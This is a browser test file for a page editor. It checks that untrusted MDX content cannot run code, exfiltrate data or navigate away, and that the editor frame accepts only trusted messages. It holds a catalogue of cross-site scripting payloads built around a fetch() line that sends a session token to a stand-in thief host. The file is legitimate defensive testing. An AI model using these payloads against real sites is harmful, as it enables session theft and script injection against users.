import type {Root, RootContent} from 'mdast';
import type {RenderRequest} from '../../src/editor/protocol';
import {editorContent} from './editor-site';
import {renderRequestOf} from '../../src/editor/state/render-request';
import {expect, ignoreMessages, test} from './test';

const THEFT = "fetch('https://thief.example/?' + sessionStorage.getItem('edit.token'))";
const node = (value: object) => value as RootContent;
const paragraph = (...children: object[]) => node({type: 'paragraph', children});
const messages = {type: 'text', value: 'words'};
const part = (name: string, attributes: Record<string, unknown> = {}, children: object[] = []) =>
  node({
    type: 'mdxJsxFlowElement',
    name,
    attributes: Object.entries(attributes).map(([key, value]) => ({type: 'mdxJsxAttribute', name: key, value})),
    children,
  });
const expression = (value: string) => ({type: 'mdxJsxAttributeValueExpression', value});

interface TrustedWindow {
  trustedTypes: {createPolicy: (name: string, rules: object) => unknown};
}

/** Content that somebody could put on a branch without any check. */
const CONTENTS: Record<string, RootContent> = {
  'a script': node({type: 'html', value: `<script>${THEFT}</script>`}),
  'a script as a part': part('script', {}, [{type: 'text', value: THEFT}]),
  'a script of another site': part('script', {src: 'https://thief.example/a.js'}),
  'a picture that fails': node({type: 'html', value: `<img src=x onerror="${THEFT}">`}),
  'a picture with a handler': part('img', {src: 'x', onError: THEFT}),
  'a part with a handler': part('Prose', {onClick: expression(THEFT)}),
  'a part with a handler as text': part('Button', {to: '/', onClick: THEFT, look: 'ink'}, [messages]),
  'a link that runs code': paragraph({type: 'link', url: `javascript:${THEFT}`, children: [messages]}),
  'a part that leads to code': part('TextLink', {to: `javascript:${THEFT}`}, [messages]),
  'a part that leads to code in capitals': part('ArrowLink', {to: `JaVaScRiPt:${THEFT}`}, [messages]),
  'a link to data': part('TextLink', {to: `data:text/html,<script>${THEFT}</script>`}, [messages]),
  'a link that opens a window on itself': part('TextLink', {to: '//thief.example', target: '_top'}, [messages]),
  'an expression': node({type: 'mdxFlowExpression', value: THEFT}),
  'an expression among words': paragraph({type: 'mdxTextExpression', value: THEFT}),
  'an import': node({type: 'mdxjsEsm', value: "import 'https://thief.example/a.js'"}),
  'attributes from an object': node({
    type: 'mdxJsxFlowElement',
    name: 'Prose',
    attributes: [{type: 'mdxJsxExpressionAttribute', value: '...{dangerouslySetInnerHTML: {__html: 1}}'}],
    children: [],
  }),
  'HTML as an attribute': part('Prose', {dangerouslySetInnerHTML: '<img src=x onerror=alert(1)>'}),
  'a frame': part('iframe', {srcdoc: `<script>${THEFT}</script>`}),
  'a drawing that runs code': part('svg', {onload: THEFT}, [messages]),
  'a form to another site': part('form', {action: 'https://thief.example'}, [messages]),
  'another base for all addresses': part('base', {href: 'https://thief.example/'}),
  'an order to go elsewhere': part('meta', {httpEquiv: 'refresh', content: '0;url=https://thief.example'}),
  'a style that fetches': part('style', {}, [{type: 'text', value: '@import "https://thief.example/a.css"'}]),
  'a part with the name of an inherited thing': part('constructor', {}, [messages]),
  'a part with the name of the prototype': part('__proto__', {}, [messages]),
  'a picture of another site': paragraph({type: 'image', url: 'https://thief.example/?', alt: 'words'}, messages),
};

test('No content of a branch runs code, contacts another site or navigates away', async ({page, watch}) => {
  const drawn = renderRequestOf(await editorContent(), '/about');
  if (!drawn) throw new Error('The page /about cannot be drawn.');
  const blocked: string[] = [];
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') blocked.push(request.url());
  });
  await page.goto('/edit/page');
  await page.evaluate(() => sessionStorage.setItem('edit.token', 'github_pat_secret'));
  expect(Object.keys(CONTENTS).length).toBeGreaterThanOrEqual(25);
  for (const [name, content] of Object.entries(CONTENTS)) {
    const body: Root = {
      type: 'root',
      children: [content, {type: 'paragraph', children: [{type: 'text', value: name}]}],
    };
    const request: RenderRequest = {...drawn, body, path: `/${name.replaceAll(' ', '-')}`};
    await page.evaluate(
      (reported) => window.postMessage({kind: 'draw', request: reported}, window.location.origin),
      request as never,
    );
    await page.getByText(name, {exact: true}).waitFor();
    const found = await page.locator('main').evaluate((main) => {
      main.querySelectorAll('a').forEach((link) => link.click());
      const forbidden =
        'script, iframe, object, embed, base, meta, style, [srcdoc], [href^="javascript:" i], [href^="data:"]';
      const handlers = [...main.querySelectorAll('*')].filter((element) =>
        [...element.attributes].some((a) => /^on/i.test(a.name)),
      );
      return [...main.querySelectorAll(forbidden), ...handlers].map((element) => element.outerHTML.slice(0, 200));
    });
    expect.soft(found, name).toEqual([]);
    expect.soft(page.url(), name).toMatch(/\/edit\/page$/);
  }
  // The browser reports that the security policy blocked a picture of another site.
  ignoreMessages(watch, 'Content Security Policy');
  watch.foreign = watch.foreign.filter((url) => !blocked.includes(url));
});

test('The frame accepts messages only from the editor, and the editor only from its frame', async ({page}) => {
  await page.goto('/edit/page');
  await page.evaluate(() => {
    const stranger = document.createElement('iframe');
    document.body.append(stranger);
    const message = {kind: 'changing', changing: true};
    window.dispatchEvent(new MessageEvent('message', {data: message, origin: 'https://thief.example', source: window}));
    window.dispatchEvent(
      new MessageEvent('message', {data: message, origin: location.origin, source: stranger.contentWindow}),
    );
  });
  await expect(page.locator('html')).not.toHaveAttribute('data-changing');
  await page.evaluate(() => window.postMessage({kind: 'changing', changing: true}, location.origin));
  await expect(page.locator('html')).toHaveAttribute('data-changing');
});

test('The editor and its frame refuse text as HTML and as the address of a script', async ({page, watch}) => {
  for (const address of ['/edit', '/edit/page']) {
    await page.goto(address);
    const accepted = await page.evaluate(() => {
      const attempts = {
        html: () => (document.createElement('p').innerHTML = '<b>words</b>'),
        script: () => (document.createElement('script').src = '/assets/edit/shell.js'),
        page: () => new DOMParser().parseFromString('<b>words</b>', 'text/html'),
        policy: () => (window as unknown as TrustedWindow).trustedTypes.createPolicy('another', {}),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return name;
        } catch {
          return [];
        }
      });
    });
    expect(accepted, address).toEqual([]);
  }
  ignoreMessages(watch, 'Trusted');
});

test('A page that cannot be rendered leaves the last one on screen, and the frame says so', async ({page, watch}) => {
  const request = renderRequestOf(await editorContent(), '/about');
  await page.goto('/edit/page');
  const answers = await page.evaluate(
    async ([good, bad]) => {
      const heard: string[] = [];
      const answerTo = (number: number) =>
        new Promise<void>((done) => {
          const listen = ({data}: MessageEvent<{kind: string; number?: number}>) => {
            if (!['drawn', 'failed'].includes(data.kind) || data.number !== number) return;
            heard.push(data.kind);
            window.removeEventListener('message', listen);
            done();
          };
          window.addEventListener('message', listen);
        });
      for (const [number, drawn] of [good, bad].entries()) {
        window.postMessage({kind: 'draw', request: drawn, number}, window.location.origin);
        await answerTo(number);
      }
      return heard;
    },
    [request, {...request, page: {type: 'unknown'}}] as never[],
  );
  expect(answers).toEqual(['drawn', 'failed']);
  await expect(page.locator('h1')).toBeVisible();
  // React reports the error to developers.
  await expect.poll(() => watch.messages.join()).toContain('TypeError');
  ignoreMessages(watch, 'TypeError');
});
